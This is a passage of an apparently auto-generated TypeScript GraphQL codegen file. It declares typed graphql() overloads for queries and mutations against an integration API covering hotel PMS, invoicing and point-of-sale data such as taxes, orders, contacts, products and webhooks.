export function graphql(source: "\n  query MewsOrderTaxes($id: ID!, $from: Date, $to: Date) {\n    consumer(id: $id) {\n      pms {\n        orders(first: 100, dateFrom: $from, dateTo: $to) {\n          nodes {\n            remoteId\n            items { remoteId taxId taxRate tax { remoteId rate } }\n            taxes { taxId tax { remoteId } }\n          }\n        }\n      }\n    }\n  }\n"): (typeof documents)["\n  query MewsOrderTaxes($id: ID!, $from: Date, $to: Date) {\n    consumer(id: $id) {\n      pms {\n        orders(first: 100, dateFrom: $from, dateTo: $to) {\n          nodes {\n            remoteId\n            items { remoteId taxId taxRate tax { remoteId rate } }\n            taxes { taxId tax { remoteId } }\n          }\n        }\n      }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query MewsTaxesFailure($id: ID!) {\n    consumer(id: $id) { name pms { taxes(first: 1) { totalCount } } }\n  }\n"): (typeof documents)["\n  query MewsTaxesFailure($id: ID!) {\n    consumer(id: $id) { name pms { taxes(first: 1) { totalCount } } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query MewsTaxes($id: ID!, $first: Int, $after: String) {\n    consumer(id: $id) {\n      pms {\n        taxes(first: $first, after: $after) {\n          totalCount\n          pageInfo { hasNextPage endCursor }\n          nodes { id remoteId sourceRef { remoteId model } label rate isCityTax raw }\n        }\n      }\n    }\n  }\n"): (typeof documents)["\n  query MewsTaxes($id: ID!, $first: Int, $after: String) {\n    consumer(id: $id) {\n      pms {\n        taxes(first: $first, after: $after) {\n          totalCount\n          pageInfo { hasNextPage endCursor }\n          nodes { id remoteId sourceRef { remoteId model } label rate isCityTax raw }\n        }\n      }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query OdooFourContacts($id: ID!) {\n    consumer(id: $id) {\n      invoicing {\n        a: contact(remoteId: \"10\") { remoteId companyName addresses { addressType } }\n        b: contact(remoteId: \"11\") { remoteId firstName companyId }\n        c: contact(remoteId: \"14\") { remoteId isSupplier }\n        d: contact(remoteId: \"999\") { remoteId }\n      }\n    }\n  }\n"): (typeof documents)["\n  query OdooFourContacts($id: ID!) {\n    consumer(id: $id) {\n      invoicing {\n        a: contact(remoteId: \"10\") { remoteId companyName addresses { addressType } }\n        b: contact(remoteId: \"11\") { remoteId firstName companyId }\n        c: contact(remoteId: \"14\") { remoteId isSupplier }\n        d: contact(remoteId: \"999\") { remoteId }\n      }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation OdooCreateProduct($input: CreateProductInput!) {\n    createProduct(input: $input) {\n      product {\n        id remoteId sourceRef { remoteId model } name unitPrice taxId code unit category currency description cost\n        availableQuantity\n      }\n      userErrors { code field message }\n    }\n  }\n"): (typeof documents)["\n  mutation OdooCreateProduct($input: CreateProductInput!) {\n    createProduct(input: $input) {\n      product {\n        id remoteId sourceRef { remoteId model } name unitPrice taxId code unit category currency description cost\n        availableQuantity\n      }\n      userErrors { code field message }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query SquareModifiersError($id: ID!) { consumer(id: $id) { id pos { modifiers { totalCount } } } }\n"): (typeof documents)["\n  query SquareModifiersError($id: ID!) { consumer(id: $id) { id pos { modifiers { totalCount } } } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query SquareModifiers($id: ID!, $first: Int, $after: String, $location: String) {\n    consumer(id: $id) {\n      pos {\n        modifiers(first: $first, after: $after, locationId: $location) {\n          nodes { remoteId name options { remoteId name price } raw }\n          totalCount\n          pageInfo { hasNextPage }\n        }\n      }\n    }\n  }\n"): (typeof documents)["\n  query SquareModifiers($id: ID!, $first: Int, $after: String, $location: String) {\n    consumer(id: $id) {\n      pos {\n        modifiers(first: $first, after: $after, locationId: $location) {\n          nodes { remoteId name options { remoteId name price } raw }\n          totalCount\n          pageInfo { hasNextPage }\n        }\n      }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query PosOrdersWithReferences($id: ID!, $location: String) {\n    consumer(id: $id) {\n      pos {\n        orders(first: 100, state: CLOSED, locationId: $location) {\n          totalCount\n          nodes {\n            id\n            remoteId\n            total\n            customerId\n            location { remoteId name timezone }\n            customer { remoteId name email }\n            items {\n              productId\n              product { remoteId name categories { remoteId name parent { remoteId name } } }\n              tax { remoteId rate }\n              accountingCategory { remoteId ledgerAccountCode }\n            }\n            payments { total paymentMethodId paymentMethod { remoteId name extra } }\n          }\n        }\n      }\n    }\n  }\n"): (typeof documents)["\n  query PosOrdersWithReferences($id: ID!, $location: String) {\n    consumer(id: $id) {\n      pos {\n        orders(first: 100, state: CLOSED, locationId: $location) {\n          totalCount\n          nodes {\n            id\n            remoteId\n            total\n            customerId\n            location { remoteId name timezone }\n            customer { remoteId name email }\n            items {\n              productId\n              product { remoteId name categories { remoteId name parent { remoteId name } } }\n              tax { remoteId rate }\n              accountingCategory { remoteId ledgerAccountCode }\n            }\n            payments { total paymentMethodId paymentMethod { remoteId name extra } }\n          }\n        }\n      }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query PosComputed($id: ID!, $from: Date!, $to: Date!, $day: Date!) {\n    consumer(id: $id) {\n      pos {\n        sales(dateFrom: $from, dateTo: $to, locationId: \"LOC-LIS\") { total taxAmount taxes { taxRate tax { label } } }\n        closure(date: $day, locationId: \"LOC-LIS\") {\n          date\n          status\n          closures { remoteId total payments { total tip paymentMethod { name } } }\n        }\n        report(date: $day, locationId: \"LOC-LIS\") {\n          date\n          location { remoteId }\n          orders { category totalOrders total }\n          payments { total paymentMethodName }\n        }\n        objectives(first: 10, dateFrom: $day, dateTo: $day) { totalCount nodes { date total } }\n        productCategories(onlyParents: true) { nodes { remoteId idParent } }\n        payments(first: 5, dateFrom: $day, dateTo: $day) { totalCount nodes { remoteId total paymentMethod { extra } } }\n      }\n    }\n  }\n"): (typeof documents)["\n  query PosComputed($id: ID!, $from: Date!, $to: Date!, $day: Date!) {\n    consumer(id: $id) {\n      pos {\n        sales(dateFrom: $from, dateTo: $to, locationId: \"LOC-LIS\") { total taxAmount taxes { taxRate tax { label } } }\n        closure(date: $day, locationId: \"LOC-LIS\") {\n          date\n          status\n          closures { remoteId total payments { total tip paymentMethod { name } } }\n        }\n        report(date: $day, locationId: \"LOC-LIS\") {\n          date\n          location { remoteId }\n          orders { category totalOrders total }\n          payments { total paymentMethodName }\n        }\n        objectives(first: 10, dateFrom: $day, dateTo: $day) { totalCount nodes { date total } }\n        productCategories(onlyParents: true) { nodes { remoteId idParent } }\n        payments(first: 5, dateFrom: $day, dateTo: $day) { totalCount nodes { remoteId total paymentMethod { extra } } }\n      }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation PosCreateCustomer($input: CreatePosCustomerInput!) {\n    createPosCustomer(input: $input) {\n      posCustomer { id remoteId name email addresses { city country } }\n      userErrors { code field message }\n    }\n  }\n"): (typeof documents)["\n  mutation PosCreateCustomer($input: CreatePosCustomerInput!) {\n    createPosCustomer(input: $input) {\n      posCustomer { id remoteId name email addresses { city country } }\n      userErrors { code field message }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation PosSetOrderCustomer($input: UpdatePosOrderCustomerInput!) {\n    updatePosOrderCustomer(input: $input) {\n      posOrder { remoteId customerId customer { remoteId name } }\n      userErrors { code field message }\n    }\n  }\n"): (typeof documents)["\n  mutation PosSetOrderCustomer($input: UpdatePosOrderCustomerInput!) {\n    updatePosOrderCustomer(input: $input) {\n      posOrder { remoteId customerId customer { remoteId name } }\n      userErrors { code field message }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query ErrConsumer($id: ID!) {\n    consumer(id: $id) { id name }\n  }\n"): (typeof documents)["\n  query ErrConsumer($id: ID!) {\n    consumer(id: $id) { id name }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query ErrConsumers {\n    consumers { nodes { id } }\n  }\n"): (typeof documents)["\n  query ErrConsumers {\n    consumers { nodes { id } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation ErrCreateConsumer($input: CreateConsumerInput!) {\n    createConsumer(input: $input) { consumer { id } userErrors { code field message } }\n  }\n"): (typeof documents)["\n  mutation ErrCreateConsumer($input: CreateConsumerInput!) {\n    createConsumer(input: $input) { consumer { id } userErrors { code field message } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query ErrTaxes($id: ID!) {\n    consumer(id: $id) { invoicing { taxes(first: 2) { totalCount nodes { remoteId } } } }\n  }\n"): (typeof documents)["\n  query ErrTaxes($id: ID!) {\n    consumer(id: $id) { invoicing { taxes(first: 2) { totalCount nodes { remoteId } } } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query ErrOpportunities($id: ID!) {\n    consumer(id: $id) { invoicing { opportunities(first: 2) { totalCount } } }\n  }\n"): (typeof documents)["\n  query ErrOpportunities($id: ID!) {\n    consumer(id: $id) { invoicing { opportunities(first: 2) { totalCount } } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query ErrContact($id: ID!, $contact: String!) {\n    consumer(id: $id) { invoicing { contact(remoteId: $contact) { remoteId } } }\n  }\n"): (typeof documents)["\n  query ErrContact($id: ID!, $contact: String!) {\n    consumer(id: $id) { invoicing { contact(remoteId: $contact) { remoteId } } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query ErrModifiers($id: ID!) {\n    consumer(id: $id) { pos { modifiers(first: 2) { totalCount } } }\n  }\n"): (typeof documents)["\n  query ErrModifiers($id: ID!) {\n    consumer(id: $id) { pos { modifiers(first: 2) { totalCount } } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation ErrCreateProduct($input: CreateProductInput!) {\n    createProduct(input: $input) { product { remoteId name } userErrors { code field message } }\n  }\n"): (typeof documents)["\n  mutation ErrCreateProduct($input: CreateProductInput!) {\n    createProduct(input: $input) { product { remoteId name } userErrors { code field message } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation ErrCreateWebhook($input: CreateWebhookInput!) {\n    createWebhook(input: $input) { webhook { id } userErrors { code field message } }\n  }\n"): (typeof documents)["\n  mutation ErrCreateWebhook($input: CreateWebhookInput!) {\n    createWebhook(input: $input) { webhook { id } userErrors { code field message } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query ErrWebhook($id: ID!) {\n    webhook(id: $id) { id }\n  }\n"): (typeof documents)["\n  query ErrWebhook($id: ID!) {\n    webhook(id: $id) { id }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation ErrUpdateWebhook($input: UpdateWebhookInput!) {\n    updateWebhook(input: $input) { webhook { id } userErrors { code field message } }\n  }\n"): (typeof documents)["\n  mutation ErrUpdateWebhook($input: UpdateWebhookInput!) {\n    updateWebhook(input: $input) { webhook { id } userErrors { code field message } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation ErrDeleteWebhook($id: ID!) {\n    deleteWebhook(input: { id: $id }) { deletedId userErrors { code field message } }\n  }\n"): (typeof documents)["\n  mutation ErrDeleteWebhook($id: ID!) {\n    deleteWebhook(input: { id: $id }) { deletedId userErrors { code field message } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query ErrIntegrations {\n    integrations { integrationId name operationsCoverage { operation status } }\n  }\n"): (typeof documents)["\n  query ErrIntegrations {\n    integrations { integrationId name operationsCoverage { operation status } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query ParityTaxes($id: ID!, $first: Int, $after: String) {\n    consumer(id: $id) {\n      invoicing {\n        taxes(first: $first, after: $after) {\n          nodes { remoteId sourceRef { remoteId model } label rate type code scope active }\n          totalCount\n          pageInfo { hasNextPage endCursor }\n        }\n      }\n    }\n  }\n"): (typeof documents)["\n  query ParityTaxes($id: ID!, $first: Int, $after: String) {\n    consumer(id: $id) {\n      invoicing {\n        taxes(first: $first, after: $after) {\n          nodes { remoteId sourceRef { remoteId model } label rate type code scope active }\n          totalCount\n          pageInfo { hasNextPage endCursor }\n        }\n      }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query ParityOpportunities($id: ID!, $first: Int, $after: String) {\n    consumer(id: $id) {\n      invoicing {\n        opportunities(first: $first, after: $after) {\n          nodes {\n            remoteId sourceRef { remoteId model } name total probability status partnerId comment currency\n            description pipeStatus pipeName createdDate dueDate endDate isWon ownerRef { remoteId model name }\n          }\n          totalCount\n        }\n      }\n    }\n  }\n"): (typeof documents)["\n  query ParityOpportunities($id: ID!, $first: Int, $after: String) {\n    consumer(id: $id) {\n      invoicing {\n        opportunities(first: $first, after: $after) {\n          nodes {\n            remoteId sourceRef { remoteId model } name total probability status partnerId comment currency\n            description pipeStatus pipeName createdDate dueDate endDate isWon ownerRef { remoteId model name }\n          }\n          totalCount\n        }\n      }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query ParityContact($id: ID!, $contact: String!) {\n    consumer(id: $id) {\n      invoicing {\n        contact(remoteId: $contact) {\n          remoteId sourceRef { remoteId model } isProspect isCustomer isSupplier isCompany companyName firstName\n          lastName email phone mobile companyId vat companyNumber currency language comment customerAccountNumber\n          supplierAccountNumber birthdate gender\n          addresses { addressType name phone mobile email street number box city postalCode country }\n          externalReference\n        }\n      }\n    }\n  }\n"): (typeof documents)["\n  query ParityContact($id: ID!, $contact: String!) {\n    consumer(id: $id) {\n      invoicing {\n        contact(remoteId: $contact) {\n          remoteId sourceRef { remoteId model } isProspect isCustomer isSupplier isCompany companyName firstName\n          lastName email phone mobile companyId vat companyNumber currency language comment customerAccountNumber\n          supplierAccountNumber birthdate gender\n          addresses { addressType name phone mobile email street number box city postalCode country }\n          externalReference\n        }\n      }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query ParityModifiers($id: ID!, $first: Int, $after: String, $location: String) {\n    consumer(id: $id) {\n      pos {\n        modifiers(first: $first, after: $after, locationId: $location) {\n          nodes { remoteId name options { remoteId name price } }\n          totalCount\n        }\n      }\n    }\n  }\n"): (typeof documents)["\n  query ParityModifiers($id: ID!, $first: Int, $after: String, $location: String) {\n    consumer(id: $id) {\n      pos {\n        modifiers(first: $first, after: $after, locationId: $location) {\n          nodes { remoteId name options { remoteId name price } }\n          totalCount\n        }\n      }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query ParityPmsTaxes($id: ID!, $first: Int, $after: String) {\n    consumer(id: $id) {\n      pms {\n        taxes(first: $first, after: $after) {\n          nodes { remoteId sourceRef { remoteId model } label rate isCityTax }\n          totalCount\n        }\n      }\n    }\n  }\n"): (typeof documents)["\n  query ParityPmsTaxes($id: ID!, $first: Int, $after: String) {\n    consumer(id: $id) {\n      pms {\n        taxes(first: $first, after: $after) {\n          nodes { remoteId sourceRef { remoteId model } label rate isCityTax }\n          totalCount\n        }\n      }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query ParityPmsOrders(\n    $id: ID!\n    $first: Int\n    $after: String\n    $state: PmsOrderState\n    $from: Date\n    $to: Date\n    $location: String\n  ) {\n    consumer(id: $id) {\n      pms {\n        orders(first: $first, after: $after, state: $state, dateFrom: $from, dateTo: $to, locationId: $location) {\n          nodes {\n            remoteId sourceRef { remoteId model } creationDate closingDate serviceDate total taxAmount orderNumber\n            deviceId totalDiscount totalRefund totalTip deliveryFee mode source currency country loyalty customerId\n            locationId guests serviceId\n            taxes { taxId name taxRate taxAmount total }\n            items {\n              remoteId sourceRef { remoteId model } quantity unitPrice total taxAmount type menuId taxRate taxId\n              description discounts { remoteId name total type } productId accountingCategoryId\n            }\n            reservation {\n              remoteId sourceRef { remoteId model } startDate endDate creationDate\n              resourceId { remoteId sourceRef { remoteId model } } resourceName resourceIdentifier\n            }\n            bills {\n              remoteId sourceRef { remoteId model } invoiceNumber creationDate closingDate\n              partners {\n                remoteId sourceRef { remoteId model } type firstName lastName companyName\n                address { addressType name street number box city postalCode country }\n              }\n            }\n          }\n          totalCount\n          pageInfo { hasNextPage endCursor }\n        }\n      }\n    }\n  }\n"): (typeof documents)["\n  query ParityPmsOrders(\n    $id: ID!\n    $first: Int\n    $after: String\n    $state: PmsOrderState\n    $from: Date\n    $to: Date\n    $location: String\n  ) {\n    consumer(id: $id) {\n      pms {\n        orders(first: $first, after: $after, state: $state, dateFrom: $from, dateTo: $to, locationId: $location) {\n          nodes {\n            remoteId sourceRef { remoteId model } creationDate closingDate serviceDate total taxAmount orderNumber\n            deviceId totalDiscount totalRefund totalTip deliveryFee mode source currency country loyalty customerId\n            locationId guests serviceId\n            taxes { taxId name taxRate taxAmount total }\n            items {\n              remoteId sourceRef { remoteId model } quantity unitPrice total taxAmount type menuId taxRate taxId\n              description discounts { remoteId name total type } productId accountingCategoryId\n            }\n            reservation {\n              remoteId sourceRef { remoteId model } startDate endDate creationDate\n              resourceId { remoteId sourceRef { remoteId model } } resourceName resourceIdentifier\n            }\n            bills {\n              remoteId sourceRef { remoteId model } invoiceNumber creationDate closingDate\n              partners {\n                remoteId sourceRef { remoteId model } type firstName lastName companyName\n                address { addressType name street number box city postalCode country }\n              }\n            }\n          }\n          totalCount\n          pageInfo { hasNextPage endCursor }\n        }\n      }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation ParityCreateProduct($input: CreateProductInput!) {\n    createProduct(input: $input) {\n      product {\n        remoteId sourceRef { remoteId model } name unitPrice taxId code unit category currency description cost\n        availableQuantity\n      }\n      userErrors { code field message }\n    }\n  }\n"): (typeof documents)["\n  mutation ParityCreateProduct($input: CreateProductInput!) {\n    createProduct(input: $input) {\n      product {\n        remoteId sourceRef { remoteId model } name unitPrice taxId code unit category currency description cost\n        availableQuantity\n      }\n      userErrors { code field message }\n    }\n  }\n"];

export function graphql(source: string) {
  return (documents as any)[source] ?? {};
}

export type DocumentType<TDocumentNode extends DocumentNode<any, any>> = TDocumentNode extends DocumentNode<  infer TType,  any>  ? TType  : never;